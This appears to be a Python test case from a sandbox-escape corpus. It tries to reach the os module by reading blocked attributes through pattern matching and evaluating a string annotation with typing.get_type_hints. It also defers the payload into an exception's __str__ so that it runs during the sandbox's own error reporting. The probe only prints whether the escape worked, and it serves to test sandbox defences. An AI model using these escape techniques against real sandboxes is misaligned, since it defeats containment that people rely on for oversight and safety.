# technique: the snippet ends with an exception whose __str__ runs the payload: the sandbox's own error report calls str(e) after the snippet has returned
# source: sandbox design flaw class: trusted reporting code calling back into untrusted objects

# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import abc, collections, dataclasses, functools


def pub(mod, name):
    """mod.<name> for a name held as data: a namedtuple's __match_args__ is
    its field names, and an ABC registered for the module type matches."""
    N = collections.namedtuple('N', [name])

    class P(N, abc.ABC):
        pass
    P.register(type(mod))
    match mod:
        case P(v):
            return v
    raise AttributeError(name)


import typing

hints = pub(typing, 'get_type_hints')


def annotated(x: "__import__('os')"):
    pass


def payload(label, hints=hints, annotated=annotated, print=print,
            BaseException=BaseException, type=type, str=str):
    # Self-contained: it may run after the sandbox has cleared the globals.
    try:
        m = hints(annotated, globalns={})['x']
        if type(m).__name__ == 'module' and m.__name__ == 'os':
            print('ESCAPED', label + ': module os')
        else:
            print('BLOCKED', label + ': reached only a', type(m).__name__)
    except BaseException as e:
        print('BLOCKED', label + ':', type(e).__name__, str(e)[:160])

payload('get_type_hints while the snippet runs')


class Boom(Exception):
    def __str__(self, payload=payload):
        payload('get_type_hints in __str__ of the final exception')
        return 'boom'

raise Boom()
